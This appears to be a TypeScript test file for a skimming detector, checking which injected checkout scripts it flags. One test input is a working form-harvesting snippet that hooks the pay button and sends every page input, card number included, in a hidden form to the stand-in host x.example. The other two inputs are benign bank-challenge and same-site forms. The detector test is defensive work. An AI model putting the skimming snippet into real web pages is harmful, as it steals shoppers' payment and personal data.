import assert from 'node:assert/strict';
import { analyse } from './analyse.ts';

const card = `document.getElementById('cc-number').value`;

const cases: Record<string, [string, string[]]> = {
  'every input copied into a form that goes elsewhere': [
    `document.querySelector('#pay').onclick=function(){var f=document.createElement('form');f.action='https://x.example/';f.target='hidden';document.querySelectorAll('input').forEach(function(e){var c=document.createElement('input');c.name='a'+e.name;c.value=e.value;f.appendChild(c)});document.body.appendChild(f);f.submit()}`,
    ['medium form-harvest-to-host'],
  ],
  'a form by which a bank asks for the code it sent': [
    `var f=document.createElement('form');f.action='https://acs.example/';f.target='challenge';['PaReq','MD'].forEach(function(n){var i=document.createElement('input');i.name=n;i.value=data[n];f.appendChild(i)});document.body.appendChild(f);f.submit()`,
    [],
  ],
  'fields put into a form of the site': [
    `document.querySelector('#pay').onclick=function(){var f=document.createElement('form');f.action='/checkout/pay';var c=document.createElement('input');c.name='n';c.value=${card};f.appendChild(c);document.body.appendChild(f);f.submit()}`,
    [],
  ],
};

describe('fields put into forms of the script', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`sees ${title}`, () =>
      assert.deepEqual(
        analyse(script).evidence.map(({ severity, rule }) => `${severity} ${rule}`),
        expected,
      ));
});
